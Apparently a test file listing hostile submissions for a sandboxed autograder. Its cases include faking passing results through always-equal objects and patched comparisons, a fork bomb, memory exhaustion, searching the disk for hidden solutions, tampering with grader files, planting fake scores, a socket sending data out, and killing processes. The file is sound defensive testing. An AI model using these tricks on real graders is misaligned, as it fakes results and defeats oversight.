"""The hostile-submission corpus: attacks a grader must contain, as data.

Each case is the reference or the stub with attack code added, either at
import time or at the top of ``rnn_step_forward`` (which then still returns
the honest answer of its base). Tests run three checks on it (``ONLY``): the
attacked ``rnn_step_forward_public`` and two honest ones that never call it;
the honest verdicts must equal those of the unattacked base.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from tests.conftest import REFERENCE, STUB

ONLY = "rnn_step_forward_public or word_embedding_public or lstm_step_forward_public"
ATTACKED = "rnn_step_forward_public"
HONEST = ("word_embedding_public", "lstm_step_forward_public")
MARK = "HOSTILE-CAPGRADE-TEST"  # on every process the corpus starts, for the leftover check


@dataclass(frozen=True)
class Hostile:
    name: str
    attack: str  # what a student would be trying to do
    base: str  # "reference" or "stub"
    stopped_by: str  # the layer that contains it (for the docs and the closing note)
    at_import: str = ""
    in_function: str = ""
    attacked_status: str | None = None  # expected status of ATTACKED; None: as the base
    import_error: bool = False
    timeout: float | None = None
    needs: str = ""  # a sandbox layer the case is only safe or meaningful with

    def source(self, **fill: str) -> str:
        base = (REFERENCE if self.base == "reference" else STUB).read_text()
        text = base
        if self.at_import:
            text = text.replace("import math\n", "import math\n" + _fill(self.at_import, fill),
                                1)
        if self.in_function:
            body = "\n".join("    " + line for line in _fill(self.in_function, fill).splitlines())
            text += ("\n\n_honest_rnn_step_forward = rnn_step_forward\n\n\n"
                     "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n"
                     f"{body}\n"
                     "    return _honest_rnn_step_forward(x, prev_h, Wx, Wh, b)\n")
        return text

    def write(self, folder: Path, **fill: str) -> Path:
        path = folder / "rnn_lstm_captioning.py"
        path.write_text(self.source(**fill))
        return path


def _fill(code: str, fill: dict[str, str]) -> str:
    for key, value in fill.items():
        code = code.replace("{" + key + "}", value)
    return code


CASES = [
    Hostile(
        "patch_comparisons_at_import", "make every comparison succeed", "stub",
        "judging happens in the harness process, which never imports student code",
        at_import=(
            "import torch as _t\n"
            "_t.allclose = lambda *a, **k: True\n"
            "_t.equal = lambda *a, **k: True\n"
            "_t.testing.assert_close = lambda *a, **k: None\n"
            "_t.Tensor.__eq__ = lambda self, other: True\n")),
    Hostile(
        "always_equal_tensor_subclass", "return a tensor subclass equal to anything", "stub",
        "the harness rebuilds every reply as an exact torch.Tensor before comparing",
        in_function=(
            "class Liar(torch.Tensor):\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "    def allclose(self, *a, **k):\n"
            "        return True\n"
            "return torch.zeros(x.shape[0], Wh.shape[0], dtype=x.dtype).as_subclass(Liar), None")),
    Hostile(
        "always_equal_object", "return a non-tensor whose comparisons always succeed", "stub",
        "replies are plain data only; anything else fails the check",
        in_function=(
            "class Yes:\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "    __array_priority__ = 1000\n"
            "return Yes(), Yes()")),
    Hostile(
        "sys_exit_at_import", "sys.exit(0) at import", "reference",
        "SystemExit is caught in the worker; the import fails, every check says why",
        at_import="import sys as _s\n_s.exit(0)\n", import_error=True),
    Hostile(
        "os_exit_at_import", "os._exit(0) at import", "reference",
        "the worker's death is seen by the harness as a failed import",
        at_import="import os as _o\n_o._exit(0)\n", import_error=True),
    Hostile(
        "sys_exit_in_function", "sys.exit(0) inside a function", "reference",
        "SystemExit is caught around each call", in_function="import sys\nsys.exit(0)",
        attacked_status="failed"),
    Hostile(
        "os_exit_in_function", "os._exit(0) inside a function", "reference",
        "the harness sees the worker die, fails that check and starts a fresh worker",
        in_function="import os\nos._exit(0)", attacked_status="error"),
    Hostile(
        "infinite_loop", "loop forever", "reference",
        "the per-call timeout; the sandbox is killed and replaced",
        in_function="while True:\n    pass", attacked_status="error", timeout=3),
    Hostile(
        "fork_bomb", "fork until the machine falls over", "reference",
        "the audit hook refuses os.fork; libc forks hit the process limit (256 for the "
        "sandbox user) and all die with the PID namespace",
        in_function=(
            "import ctypes, os, time\n"
            "try:\n"
            "    os.fork()\n"
            "except PermissionError:\n"
            "    pass\n"
            "libc = ctypes.CDLL(None)\n"
            "for _ in range(9):  # 512 processes at most, even uncontained\n"
            "    libc.fork()\n"
            "while True:\n"
            "    time.sleep(0.5)"),
        attacked_status="error", timeout=4, needs="processes"),
    Hostile(
        "allocate_30_gb", "allocate 30 GB", "reference",
        "the address-space limit: the allocation fails inside the sandbox",
        in_function="big = torch.ones(30 * 2**30, dtype=torch.uint8)\nbig.add_(1)",
        attacked_status="failed", needs="address space"),
    Hostile(
        "print_100_mb", "print 100 MB", "reference",
        "output is captured and capped in the worker; the verdict is unchanged",
        in_function="for _ in range(100):\n    print('y' * 1_000_000)",
        attacked_status="passed"),
    Hostile(
        "read_secrets", "search the disk for the hidden values or the solution", "stub",
        "a mount namespace hides everything of the checkout but grader/ and the venv; the "
        "unprivileged user cannot open root's files",
        in_function=(
            "import os, importlib.util, grader\n"
            "from pathlib import Path\n"
            "roots = [Path(grader.__file__).resolve().parents[1], Path('/tmp'), Path('/work'),\n"
            "         Path('/root'), Path('/home'), Path('{secret_dir}')]\n"
            "found = []\n"
            "for root in roots:\n"
            "    for folder, dirs, files in os.walk(root):\n"
            "        if folder.count(os.sep) - str(root).count(os.sep) > 5:\n"
            "            dirs[:] = []\n"
            "        dirs[:] = [d for d in dirs if d not in ('site-packages', '.venv')]\n"
            "        for f in files:\n"
            "            p = os.path.join(folder, f)\n"
            "            if os.path.realpath(p) == os.path.realpath(__file__):\n"
            "                continue  # its own copy\n"
            "            if f == 'hidden.safetensors' or f.endswith('captioning.py'):\n"
            "                try:\n"
            "                    text = open(p, 'rb').read()\n"
            "                except OSError:\n"
            "                    continue\n"
            "                if f == 'hidden.safetensors' or b'BEGIN SOLUTION' in text:\n"
            "                    found.append(p)\n"
            "print('FOUND:' if found else 'nothing found', found[:5])\n"
            "for p in found:\n"
            "    if p.endswith('.py'):\n"
            "        spec = importlib.util.spec_from_file_location('stolen', p)\n"
            "        m = importlib.util.module_from_spec(spec)\n"
            "        spec.loader.exec_module(m)\n"
            "        return m.rnn_step_forward(x, prev_h, Wx, Wh, b)"),
        needs="mount namespace"),
    Hostile(
        "import_grader_internals", "import grader internals to change results", "stub",
        "the worker's copy of grader is not the harness's; grader files are root's",
        at_import=(
            "import grader.harness.judging, grader.protocol, grader.worker.probes\n"
            "grader.harness.judging.close = lambda *a, **k: 0.0\n"
            "grader.harness.judging.equal = lambda *a, **k: None\n"
            "import os as _o\n"
            "_d = _o.path.dirname(grader.harness.judging.__file__)\n"
            "for _f in ('judging.py', 'plugin.py'):\n"
            "    try:\n"
            "        with open(_o.path.join(_d, _f),\n"
            "                  'a') as _h:\n"
            "            _h.write('\\nclose = lambda *a, **k: 0.0\\n')\n"
            "    except OSError as _e:\n"
            "        print('cannot write', _f, _e)\n")),
    Hostile(
        "fake_result_files", "write fake result files where a grader might read them", "stub",
        "the worker's files stay in its private temp dir; /tmp is private; other folders "
        "are not writable by the sandbox user",
        at_import=(
            "import json as _j, os as _o, grader as _g\n"
            "_fake = _j.dumps({'score': 124, 'tests': []})\n"
            "for _d in ('.', _o.environ.get('HOME', '.'), '/tmp', '/var/tmp', '/dev/shm',\n"
            "           _o.path.dirname(_o.path.dirname(_g.__file__)), '{out_dir}'):\n"
            "    for _n in ('results.json', '{marker_name}'):\n"
            "        try:\n"
            "            open(_o.path.join(_d, _n), 'w').write(_fake)\n"
            "        except OSError:\n"
            "            pass\n")),
    Hostile(
        "network_connection", "open a network connection", "reference",
        "the audit hook refuses sockets; the network namespace has no interface up",
        in_function=(
            "import socket\n"
            "for host, port in (('127.0.0.1', {port}), ('1.1.1.1', 53)):\n"
            "    try:\n"
            "        socket.create_connection((host, port), timeout=1).sendall(b'stolen')\n"
            "        print('CONNECTED', host)\n"
            "    except OSError as e:\n"
            "        print('refused', host, type(e).__name__)"),
        attacked_status="passed"),
    Hostile(
        "kill_parent", "kill the grader (the parent process, then everything it can)",
        "reference",
        "the audit hook refuses os.kill; libc kill() reaches only the sandbox's own PID "
        "namespace and user: the broker dies, the harness restarts the worker",
        in_function=(
            "import ctypes, os\n"
            "try:\n"
            "    os.kill(os.getppid(), 9)\n"
            "except PermissionError:\n"
            "    pass\n"
            "libc = ctypes.CDLL(None)\n"
            "libc.kill(os.getppid(), 9)\n"
            "if os.getpid() < 100:  # only where a PID namespace holds it (a safe test)\n"
            "    libc.kill(-1, 9)"),
        attacked_status="error"),
    Hostile(
        "background_process", "leave a process running after grading", "reference",
        "the PID namespace dies with the sandbox; stragglers carrying the sandbox id are "
        "killed",
        at_import=(
            "import ctypes as _c, os as _o, subprocess as _s\n"
            "try:\n"
            "    _s.Popen(['sleep', '600'], start_new_session=True)\n"
            "except PermissionError:\n"
            "    pass\n"
            "_libc = _c.CDLL(None)\n"
            "if _libc.fork() == 0:\n"
            "    _libc.setsid()\n"
            "    _libc.sleep(600)\n"
            "    _libc._exit(0)\n"),
        needs="PID namespace"),
]

BY_NAME = {c.name: c for c in CASES}
